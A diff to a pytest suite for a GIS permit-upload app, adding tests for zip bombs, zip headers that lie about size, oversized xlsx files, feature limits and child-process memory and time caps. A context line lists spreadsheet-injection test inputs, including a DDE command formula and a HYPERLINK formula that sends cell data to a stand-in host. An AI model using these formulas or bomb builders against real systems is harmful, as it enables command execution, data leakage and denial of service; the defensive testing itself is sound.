@@ -10,6 +10,7 @@ import sqlite3
 import threading
 import zipfile
 
+import openpyxl
 import pandas as pd
 import pytest
 from click.testing import CliRunner
@@ -17,6 +18,7 @@ from click.testing import CliRunner
 from gisapp import create_app
 from gisapp.accounts import Accounts
 from gisapp.cli import cli
+from tests.stores import BACKENDS, new_store
 
 PASSWORD = "correct horse battery"
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-3+4",
@@ -370,3 +372,116 @@ def test_a_shapefile_zip_with_folders_and_odd_names_is_read(app, demo_store, tmp
 def test_zips_with_no_or_several_datasets_are_refused(app, members, message):
     r = upload(signed_in(app, "officer1"), zipped(members), name="permits.zip", lang="en")
     assert r.status_code == 400 and message in error_of(r)
+
+
+# -- 2: limits on what an upload unpacks to and holds; the check runs in a child process ------------
+
+
+def geojson_of_spaces(size: int) -> bytes:
+    """A valid, empty FeatureCollection padded with ``size`` spaces: packs into a few KB."""
+    return b'{"type": "FeatureCollection", "features": [' + b" " * size + b"]}"
+
+
+def with_declared_size(zipped_bytes: bytes, size: int) -> bytes:
+    """The zip with its (one) member's unpacked size in both headers replaced by ``size``: a lie."""
+    data = bytearray(zipped_bytes)
+    local = data.index(b"PK\x03\x04")
+    central = data.index(b"PK\x01\x02")
+    data[local + 22:local + 26] = size.to_bytes(4, "little")
+    data[central + 24:central + 28] = size.to_bytes(4, "little")
+    return bytes(data)
+
+
+def test_a_zip_bomb_is_refused_with_the_limit_named(demo_store, tmp_path):
+    app = make_app(demo_store.url, tmp_path, MAX_UNPACKED_MB=1)
+    bomb = zipped({"permits.geojson": geojson_of_spaces(3 << 20)})
+    assert len(bomb) < 20_000
+    for lang, words in (("en", "more than 1 MB"), ("vi", "lớn hơn 1 MB")):
+        r = upload(signed_in(app, "officer1"), bomb, name="permits.zip", lang=lang)
+        assert r.status_code == 400 and words in error_of(r)
+    assert not list((tmp_path / "uploads").glob("*/files/*"))  # a refused upload is not kept
+
+
+def test_a_zip_whose_headers_lie_about_its_size_is_refused(demo_store, tmp_path):
+    app = make_app(demo_store.url, tmp_path, MAX_UNPACKED_MB=1)
+    liar = with_declared_size(zipped({"permits.geojson": geojson_of_spaces(3 << 20)}), 1000)
+    r = upload(signed_in(app, "officer1"), liar, name="permits.zip", lang="en")
+    assert r.status_code == 400 and ("more than 1 MB" in error_of(r) or "not a readable zip" in error_of(r))
+
+
+def test_an_xlsx_that_unpacks_beyond_the_limit_is_refused(demo_store, tmp_path):
+    app = make_app(demo_store.url, tmp_path, MAX_UNPACKED_MB=1)
+    book = openpyxl.Workbook()
+    book.active.append(["Mã hồ sơ", "Trạng thái"])
+    book.active.append(["HS-1", "x" * 30000])
+    book.save(tmp_path / "ho_so.xlsx")
+    with zipfile.ZipFile(tmp_path / "ho_so.xlsx", "a") as zf:
+        zf.writestr("xl/media/padding.bin", bytes(3 << 20), compress_type=zipfile.ZIP_DEFLATED)
+    r = upload(signed_in(app, "officer1"), (tmp_path / "ho_so.xlsx").read_bytes(), name="ho_so.xlsx",
+               layer="construction_permits", lang="en")
+    assert r.status_code == 400 and "more than 1 MB" in error_of(r)
+
+
+@pytest.mark.parametrize("kind", ["geojson", "gpkg", "zip", "csv", "xlsx"])
+def test_a_file_with_more_features_than_the_limit_is_refused(demo_store, tmp_path, kind):
+    app = make_app(demo_store.url, tmp_path, MAX_UPLOAD_FEATURES=3)
+    rows = sidewalk_rows(demo_store, 5)
+    layer, name = "sidewalk_permits", f"permits.{kind}"
+    if kind in ("geojson", "zip"):
+        content = geojson_bytes(rows, tmp_path)
+        content = zipped({"permits.geojson": content}) if kind == "zip" else content
+    elif kind == "gpkg":
+        rows.to_file(tmp_path / name, layer="sidewalk_permits")
+        content = (tmp_path / name).read_bytes()
+    else:
+        layer, table = "construction_permits", pd.DataFrame({"Mã hồ sơ": [f"HS-{i}" for i in range(5)]})
+        if kind == "csv":
+            content = table.to_csv(index=False).encode()
+        else:
+            table.to_excel(tmp_path / name, index=False)
+            content = (tmp_path / name).read_bytes()
+    r = upload(signed_in(app, "officer1"), content, name=name, layer=layer, lang="en")
+    assert r.status_code == 400 and "more than 3 features or rows" in error_of(r)
+    r = upload(signed_in(app, "officer1"), content, name=name, layer=layer, lang="vi")
+    assert "hơn 3 đối tượng" in error_of(r)
+
+
+def test_the_check_runs_in_a_child_process_under_the_memory_limit(demo_store, tmp_path):
+    """A check that needs more memory than allowed is refused with the limit named; the server goes on."""
+    content = geojson_bytes(sidewalk_rows(demo_store), tmp_path)
+    starved = make_app(demo_store.url, tmp_path, IMPORT_MEMORY_MB=200)
+    r = upload(signed_in(starved, "officer1"), content, lang="en")
+    assert r.status_code == 400 and "200 MB" in error_of(r)
+    r = upload(signed_in(make_app(demo_store.url, tmp_path), "officer1"), content)
+    assert r.status_code == 200 and re.search(r'data-testid="accepted">3<', r.get_data(as_text=True))
+
+
+def test_a_check_past_its_time_is_stopped(demo_store, tmp_path):
+    from gisapp import importing_child
+    from gisapp.importing import ImportFailure
+
+    (tmp_path / "permits.geojson").write_bytes(geojson_bytes(sidewalk_rows(demo_store), tmp_path))
+    job = importing_child.Job(store=demo_store.url, layer="sidewalk_permits", path=str(tmp_path / "permits.geojson"))
+    with pytest.raises(ImportFailure, match=r"takes more than 0.01 s"):
+        importing_child.run(job, memory_mb=4096, seconds=0.01)
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_check_and_confirm_in_the_child_on_each_store(backend, demo_frames, tmp_path, request):
+    """The child process reads the upload, writes its rejects and, on confirmation, the store of either kind."""
+    store = new_store(backend, tmp_path, request)
+    frames, meta = demo_frames
+    store.write(frames, meta=meta)
+    app = make_app(store.url, tmp_path)
+    client = signed_in(app, "officer1")
+    rows = sidewalk_rows(store)
+    rows.loc[2, "end_on"] = "2000-01-01"
+    page = upload(client, geojson_bytes(rows, tmp_path)).get_data(as_text=True)
+    assert re.search(r'data-testid="accepted">2<', page) and re.search(r'data-testid="rejected">1<', page)
+    rejects_url = re.search(r'data-testid="rejects-link" href="([^"]+)"', page).group(1)
+    assert "UP-3" in client.get(rejects_url).get_data(as_text=True)
+    before = store.count("sidewalk_permits")
+    confirm = re.search(r'action="([^"]+/confirm)"', page).group(1)
+    assert client.post(confirm, data={"csrf_token": token_of(page)}).status_code == 200
+    assert store.count("sidewalk_permits") == before + 2
+
